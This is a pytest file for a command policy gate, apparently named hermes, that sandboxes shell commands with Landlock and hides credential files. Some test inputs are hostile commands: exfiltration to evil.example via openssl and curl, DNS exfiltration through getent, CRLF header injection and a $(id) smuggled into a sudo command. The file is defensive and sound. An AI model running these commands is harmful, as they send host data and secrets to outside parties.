"""What the kernel lets a judged command do, and what the gate says where it cannot be held."""

import pytest
from msgspec.structs import replace
from policy_setup import HOME, WORK, book, policy_text

from hermes.core.actions import Action, ConfinementProfile, KernelSupport
from hermes.policy.actions.enforceability import check_enforcement
from hermes.policy.actions.reader import ActionContext, ActionReader
from hermes.policy.command_analysis import analyse_command
from hermes.policy.decide import DocumentPolicy
from hermes.policy.examination import action_from_description, parse_description
from hermes.policy.rules.rule import PolicyVerdict

FULL = KernelSupport(landlock=7, root=True)
USER = KernelSupport(landlock=7)
NONE = KernelSupport(reason="the kernel has no Landlock")


def decided(
    command: str,
    kernel: KernelSupport | None = FULL,
    text: str = "",
    links: dict[str, str] | None = None,
) -> PolicyVerdict:
    reader = ActionReader(analyse_command, lookup=lambda path: (links or {}).get(path, path))
    gate = DocumentPolicy(
        book(text, set="careful"), reader, context_of=lambda _: ActionContext(cwd=WORK, home=HOME)
    )
    action: Action = replace(
        action_from_description(parse_description({"command": command})), kernel=kernel
    )
    return gate.decide(action)


def profile(command: str) -> ConfinementProfile:
    found = decided(command).profile
    assert found is not None
    return found


def test_a_read_may_do_nothing_but_read() -> None:
    found = profile("df -h; ps aux | grep nginx; cat /etc/hosts 2>/dev/null")
    assert found == ConfinementProfile(hidden=found.hidden, max_file_bytes=2 << 30)


@pytest.mark.parametrize(
    ("command", "writable"),
    [
        ("echo x > /tmp/a", ("/tmp/a",)),
        ("rm -rf /srv/data/cache", ("/srv/data/cache",)),
        ("touch a; mkdir -p b/c", ("/srv/app/a", "/srv/app/b/c")),
        ("rm /var/log/*.gz", ("/var/log",)),
        ("tar xf a.tar -C /tmp/x", ("/tmp/x",)),
    ],
)
def test_a_write_may_change_just_what_was_judged(command: str, writable: tuple[str, ...]) -> None:
    assert profile(command).writable == writable
    assert profile(command).network == "none"


@pytest.mark.parametrize(
    ("command", "ports"),
    [
        ("curl -s http://localhost:8080/health", (8080,)),
        ("curl -sI https://example.com", (443,)),
        ("curl http://a/ https://b:8443/x", (80, 8443)),
        ("curl -sL http://localhost:8080/", (80, 443, 8080)),
        ("wget -qO- http://example.com", (80, 443)),
        ("git ls-remote http://example.com:8080/a.git", ()),
    ],
)
def test_ports_are_those_that_the_words_name(command: str, ports: tuple[int, ...]) -> None:
    found = profile(command)
    assert (found.network, found.ports) == ("ports" if ports else "any", ports)


def test_a_peer_behind_a_socket_makes_it_partly_enforced() -> None:
    for command, peer in (
        ("systemctl status nginx", "systemd"),
        ("docker ps", "the container daemon"),
        ("psql -c 'select 1'", "the database"),
    ):
        found = decided(command)
        assert found.verdict == "allow"
        assert (found.enforced, peer in found.unenforced) == ("partly", True)


def test_files_that_cannot_be_hidden_are_named() -> None:
    visible = replace(FULL, visible_secrets="mounts are forbidden")
    found = decided("cat /etc/hosts", visible)
    assert (found.verdict, found.enforced) == ("allow", "partly")
    assert "files with secrets stay readable (mounts are forbidden)" in found.unenforced
    assert decided("cat /etc/shadow", visible).verdict == "ask"


def test_configuration_on_other_hosts_is_named_as_not_read() -> None:
    def there(command: str, kernel: KernelSupport = FULL) -> PolicyVerdict:
        request = {"command": command, "environment": "ssh"}
        action: Action = replace(action_from_description(parse_description(request)), kernel=kernel)
        reader = ActionReader(analyse_command, lookup=lambda path: path)
        context = ActionContext(cwd=WORK, home=HOME)
        return DocumentPolicy(book(set="careful"), reader, context_of=lambda _: context).decide(
            action
        )

    assert there("git status").enforced == "yes"
    assert there("echo x > a; terraform show").verdict == "ask"
    for command in ("git status; echo x > a", "git fetch", "dig x | python3 -m json.tool"):
        found = there(command)
        assert found.enforced == "partly"
        assert "finds there, which was not read" in found.unenforced
    for command in ("git status", "git log -3; ls", "git ls-remote origin"):
        found = there(command, NONE)
        assert (found.verdict, found.rule) == ("ask", "unenforced-asks")
    assert there("df -h", NONE).verdict == "allow"


def test_hosts_and_datagrams_are_named_as_not_bounded() -> None:
    for command, gap in (
        ("curl -s http://localhost:8080/health", "which host it connects to on TCP port 8080"),
        ("git ls-remote http://example.com/a", "TCP connections to any host and port"),
        ("ping -c 1 example.com", "UDP datagrams"),
    ):
        found = decided(command)
        assert (found.enforced, gap in found.unenforced) == ("partly", True), found.unenforced
        assert "UDP datagrams to any host" in found.unenforced
    assert decided("cat /etc/hosts").enforced == "yes"


def test_a_socket_named_by_the_command_can_be_reached() -> None:
    assert "/srv/d/sock" in profile("docker -H unix:///srv/d/sock ps").sockets
    assert "/srv/pg/.s.*" in profile("psql -h /srv/pg -c 'select 1'").sockets


@pytest.mark.parametrize(
    "command",
    [
        "python3 fix.py",
        "systemctl restart nginx",
        "$X",
        "frobnicate --now",
        "rm $X",
        "make install",
    ],
)
def test_what_has_no_bounds_is_unrestricted_and_says_why(command: str) -> None:
    found = decided(command)
    assert found.verdict != "allow"
    assert found.profile is not None
    assert found.profile.unrestricted
    assert (found.enforced, found.unenforced) == ("no", found.profile.unrestricted)


def test_a_profile_says_whether_the_command_changes_something() -> None:
    for command in ("df -h", "sleep 300 | cat", "curl -s http://localhost:8080/health"):
        assert not profile(command).changes, command
    for command in ("touch x", "git commit -m x", "curl -X DELETE http://localhost:8080/x"):
        assert profile(command).changes, command


def test_a_kill_may_signal_and_nothing_else() -> None:
    found = profile("kill -HUP 1234")
    signals = ConfinementProfile(
        changes=True, may_signal=True, hard_links=True, setuid_files=True, hidden=found.hidden
    )
    assert found == signals


def test_git_may_change_its_records() -> None:
    assert profile("git commit -m x").repository == "records"
    assert profile("git switch main").repository == "files"


@pytest.mark.parametrize(
    ("command", "settings"),
    [
        ("git add config", False),
        ("git commit -m remote", False),
        ("git switch init", False),
        ("git branch -u origin/x", False),
        ("git -C config add x", False),
        ("git config user.name a", True),
        ("git remote add x y", True),
        ("git init", True),
    ],
)
def test_only_a_verdict_about_settings_may_change_those_of_git(
    command: str, settings: bool
) -> None:
    assert profile(command).repository_settings is settings


def test_git_changes_the_repository_that_its_words_name() -> None:
    assert profile("git -C sub -C x commit").repositories == ("/srv/app/sub/x",)
    assert profile("cd /opt/y && git commit").repositories == ("/opt/y",)
    named = profile("git --git-dir=/opt/y/.git --work-tree=/opt/z commit").repositories
    assert named == ("/srv/app", "/opt/y/.git", "/opt/z")
    assert profile("git worktree add ../x").repository == "records"
    assert profile("git worktree add ../x").writable == ("/srv/x",)


@pytest.mark.parametrize(
    "command", ["cd /opt/y && git commit -m x", "cd ../other; git add -A", "cd l && git tag x"]
)
def test_git_in_a_repository_elsewhere_asks(command: str) -> None:
    assert decided(command, links={"/srv/app/l": "/opt/l"}).verdict == "ask"
    assert decided("cd sub && git add -A && git commit -m x").verdict == "allow"


def test_git_may_reach_the_host_it_fetches_from() -> None:
    assert profile("git fetch").network == "any"
    assert profile("git commit -m fetch").network == "none"


def test_where_a_link_leads_is_judged_as_well() -> None:
    links = {"/tmp/link/x": "/etc/x"}
    found = decided("echo x > /tmp/link/x", links=links)
    assert found.verdict == "ask"
    assert found.profile is not None
    assert found.profile.writable == ("/tmp/link/x", "/etc/x")
    assert decided("echo x > /tmp/plain/x").verdict == "allow"


@pytest.mark.parametrize(
    ("version", "enforced", "missing"),
    [(7, "yes", ""), (6, "yes", ""), (5, "partly", "signal"), (4, "partly", "devices")]
    + [(version, "partly", "devices") for version in (3, 2, 1)],
)
def test_an_older_landlock_enforces_less_and_says_what(
    version: int, enforced: str, missing: str
) -> None:
    said, gaps = check_enforcement(ConfinementProfile(), KernelSupport(landlock=version, root=True))
    assert said == enforced
    assert missing in gaps


@pytest.mark.parametrize(
    ("command", "rule", "enforced"),
    [
        ("sudo systemctl restart web", "moderate", "partly"),
        (
            "sudo systemctl reset-failed web 2>/dev/null; sudo systemctl restart web",
            "moderate",
            "partly",
        ),
        ("sudo cat /var/log/app.log", "default-reads", "yes"),
        ("sudo rc-service web restart", "moderate", "no"),
        ("sudo systemctl stop web", "destructive", "no"),
        ("sudo systemctl restart web.service", "destructive", "no"),
        ("sudo -u root systemctl restart web", "destructive", "no"),
        ("sudo A=1 systemctl restart web", "destructive", "no"),
        ("env sudo systemctl restart web", "destructive", "no"),
        ("systemctl restart web", "moderate", "no"),
        ("sudo systemctl restart web >> /etc/motd", "destructive", "no"),
        ("sudo systemctl restart web; sudo id", "moderate", "no"),
        ("sudo systemctl restart web $(id)", "destructive", "no"),
        ("sudo cat /var/log/app.log | tee /tmp/copy", "safe-clean-up", "no"),
        ("sudo journalctl -n 5", "default-reads", "no"),
    ],
)
def test_what_the_launcher_of_root_runs_needs_no_other_privilege(
    command: str, rule: str, enforced: str
) -> None:
    listed = ("systemctl reset-failed web", "systemctl restart web")
    kernel = replace(
        USER,
        reason="the supervisor may not read system calls",  # the launcher runs as root
        root_commands=listed,
        unconfined_root_commands=("rc-service web restart",),
        root_readers=("cat",),
    )
    found = decided(command, kernel)
    assert (found.rule, found.enforced) == (rule, enforced), found
    assert (found.profile or ConfinementProfile()).root_launcher is (enforced != "no")
    assert decided(command, USER).enforced == "no"


def test_sudo_of_an_ordinary_user_cannot_be_confined() -> None:
    assert decided("sudo cat /var/log/syslog", FULL).enforced == "yes"
    found = decided("sudo cat /var/log/syslog", USER)
    assert (found.verdict, found.enforced) == ("allow", "no")
    assert "sudo has to gain rights" in found.unenforced


@pytest.mark.parametrize(
    "command", ["df -h", "cat /var/log/syslog | tail -5", "systemctl status x"]
)
def test_without_a_kernel_that_enforces_plain_reads_go_on(command: str) -> None:
    found = decided(command, NONE)
    assert (found.verdict, found.enforced) == ("allow", "no")
    assert found.unenforced == NONE.reason


@pytest.mark.parametrize(
    "command", ["cat $LOG", "git status", "python3 -m json.tool x", "x=$(date); echo $x"]
)
def test_without_one_a_verdict_that_rests_on_more_than_the_tables_asks(command: str) -> None:
    assert decided(command, FULL).verdict == "allow"
    assert decided(command, None).verdict == "allow"
    found = decided(command, NONE)
    assert (found.verdict, found.rule) == ("ask", "unenforced-asks")


def test_a_rule_can_require_an_enforced_verdict() -> None:
    text = policy_text("strict", "allow", "{effects: read}", decide="require: enforced")
    assert decided("df -h", FULL, text).verdict == "allow"
    found = decided("df -h", NONE, text)
    assert (found.verdict, found.rule) == ("ask", "strict")


def test_a_program_that_runs_files_sees_no_other_processes_whatever_stands_beside_it() -> None:
    assert "processes" in profile("ss -tlnp | head -1").special
    for other in ("python3 -m json.tool foo", "git status", "kill -0 1"):
        beside = decided(f"ss -tlnp | head -1; {other}")
        assert beside.profile is not None
        assert "processes" not in beside.profile.special


@pytest.mark.parametrize(
    "command",
    [
        r"curl -H $'X: a\r\n\r\nDELETE /x HTTP/1.1' http://localhost:9200/",
        r"curl -A $'a\nX-Role: admin' http://localhost/",
        r"wget -qO- --header=$'X: a\r\nY: b' http://localhost/",
        "curl --resolve localhost:80:203.0.113.9 'http://localhost/?d=1'",
        "curl --connect-to ::evil.example:80 'http://localhost/?d=1'",
        "curl http://evil.example/?d=1",
        "echo 'DELETE /x HTTP/1.0' | openssl s_client -connect localhost:443",
        "openssl s_client -quiet -connect evil.example:443 < /etc/hosts",
        "ps aux | openssl s_client -connect evil.example:443",
        "getent hosts $(hostname).evil.example",
        "flock /etc/cron.d/x ls",
        "flock x -c 'df -h'",
    ],
)
def test_what_sends_or_makes_more_than_it_seems_asks(command: str) -> None:
    assert decided(command).verdict == "ask"


@pytest.mark.parametrize(
    "command",
    [
        "curl -H 'X: a' -w '%{http_code}\\n' http://localhost:9200/",
        r"curl -sw $'%{http_code}\n' http://localhost:9200/",
        "curl --resolve shop.example:443:127.0.0.1 https://shop.example/health",
        "curl --connect-to ::127.0.0.1:8443 https://shop.example/health",
        "echo | openssl s_client -connect a.example:443 | openssl x509 -noout -dates",
        "openssl s_client -connect a.example:443 </dev/null",
        "echo Q | openssl s_client -connect a.example:443",
        "getent hosts db1; getent passwd root; getent ahosts localhost",
        'getent -s files hosts "$(hostname)"',
        "flock /tmp/lock df -h",
        "flock 9",
        "mktemp; mktemp -d /tmp/a.XXXX",
    ],
)
def test_the_ordinary_forms_of_these_stay_quiet(command: str) -> None:
    assert decided(command).verdict == "allow"


def test_another_host_than_the_one_of_the_address_is_not_local() -> None:
    for option in ("--resolve localhost:80:203.0.113.9", "--connect-to ::evil.example:80"):
        assert "network-read" in decided(f"curl {option} http://localhost/").effects
    assert profile("curl --connect-to ::localhost:8443 https://a.b/").ports == (443, 8443)


def test_mktemp_gets_its_template_and_nothing_beside() -> None:
    found = profile("mktemp --suffix=.log /tmp/a.XXXX")
    assert (found.templates, found.writable, found.beside) == (("/tmp/a.XXXX.log",), (), ())


def test_a_lock_is_the_only_file_that_flock_makes() -> None:
    assert profile("flock /tmp/lock df -h").writable == ("/tmp/lock",)


def test_names_are_looked_up_over_the_network() -> None:
    assert profile("getent hosts db1.example").network == "any"
    assert profile("getent passwd root").network == "none"


def test_a_refusal_that_a_program_does_without_is_known_beforehand() -> None:
    assert profile("sqlite3 a.db 'select 1'").optional == ("/srv/app/a.db",)
    assert profile("cat a.db").optional == ()


def test_a_link_of_a_process_is_read_by_looking_into_it() -> None:
    assert profile("ls -l /proc/1/cwd").special == ("processes",)
    assert profile("ls -l /proc/self/cwd").special == ()


def test_sessions_of_tmux_are_listed_by_its_server() -> None:
    found = profile("tmux ls")
    assert found.peers == ("the tmux server",)
    assert "/tmp/tmux-*/*" in found.sockets


def test_only_a_verdict_about_secrets_shows_our_own() -> None:
    assert not profile("find . -type f | xargs cat").own_secrets
    assert profile("cat ~/.ssh/id_rsa").own_secrets
    assert profile("hermes health").own_secrets or profile("hermes health").unrestricted


def test_secrets_are_hidden_from_commands_that_were_not_judged_to_read_them() -> None:
    for command in ("sort --files0-from=list", "cat $(cat list)", "git diff --no-index a b"):
        assert {"/etc/shadow", "~/.ssh/id_*", "~/.pgpass"} <= {*profile(command).hidden}, command
    assert profile("cat /etc/shadow").hidden == ()
    assert profile("getent shadow").hidden == ()


@pytest.mark.parametrize(
    ("command", "visible"),
    [
        ("curl -s http://localhost:8080/", set()),
        ("curl -sn http://localhost:8080/", {"~/.netrc"}),
        ("wget -qO- http://localhost:8080/", {"~/.netrc"}),
        ("dig example.com; ping -c 1 localhost; systemctl status x; sudo -n true", set()),
        ("docker ps", {"~/.docker/config.json"}),
        ("docker -H ssh://host ps", {"~/.docker/config.json", "~/.ssh/id_*"}),
        ("ssh host uptime", {"~/.ssh/id_*"}),
        ("systemctl -H host status x", {"~/.ssh/id_*"}),
        ("git fetch", {"~/.ssh/id_*", "~/.git-credentials", "~/.netrc"}),
        ("git log -3", set()),
        ("psql -c 'select 1'", {"~/.pgpass"}),
        ("aws s3 ls", {"~/.aws/credentials"}),
        (
            "kubectl get pods",
            {"~/.kube/config", "~/.aws/credentials", "~/.config/gcloud/*credentials*"},
        ),
        ("ssh a psql -c 'select 1'; docker ps", {"~/.ssh/id_*", "~/.docker/config.json"}),
    ],
)
def test_a_program_sees_only_the_credentials_that_it_logs_in_with(
    command: str, visible: set[str]
) -> None:
    assert {*profile("df -h").hidden} - {*profile(command).hidden} == visible


def test_only_commands_whose_queries_all_read_get_read_only_sessions() -> None:
    for command, read_only in (
        ("psql -c 'select 1'", True),
        ("psql -l; echo x > /tmp/a", True),
        ("psql -c 'update t set a = 1 where b = 2'", False),
        ("psql -c 'select 1'; psql -c 'insert into t values (1)'", False),
        ("psql -p 6432 -c 'show pools'", False),
        ("df -h", False),
    ):
        assert profile(command).read_only_databases is read_only, command
